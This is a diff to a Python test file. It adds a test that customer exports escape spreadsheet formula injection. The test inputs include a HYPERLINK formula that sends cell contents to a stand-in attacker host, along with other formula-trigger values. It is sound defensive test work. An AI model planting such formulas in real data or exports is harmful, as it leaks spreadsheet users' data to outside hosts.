@@ -8,7 +8,7 @@ import io
 import json
 from asyncio import to_thread
 from typing import TYPE_CHECKING, Any
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
 from support.engine import eventually
 
@@ -83,6 +83,22 @@ async def test_deliveries_are_exported_with_what_came_of_them(tenant: Tenant) ->
     assert len(await export(tenant, "deliveries", {})) == 3
     [nobody] = await export(tenant, "deliveries", {"metric": "undeliverable"})
     assert nobody["id"] == "sam"
+
+
+async def test_an_export_holds_no_formula_of_an_app(tenant: Tenant) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+    for person, email in ((formula, "+cmd@x.io"), ("@SUM(A1)", "-1@x.io"), ("x;=1+1", "ann@x.io")):
+        path = f"/api/v1/customers/{quote(person, safe='')}"
+        await tenant.call("PUT", path, {"email": email, "plan": "=1"}, track=True)
+    rows = await export(
+        tenant, "customers", {"filters": {"attribute": {"field": "plan", "operator": "exists"}}}
+    )
+    assert {(row["id"], row["email"]) for row in rows} == {
+        (f"'{formula}", "'+cmd@x.io"),
+        ("'@SUM(A1)", "'-1@x.io"),
+        ("x;'=1+1", "ann@x.io"),
+    }
+    assert {json.loads(row["attributes"])["plan"] for row in rows} == {"=1"}
 
 
 async def test_a_link_that_is_not_ours_opens_nothing(tenant: Tenant) -> None:
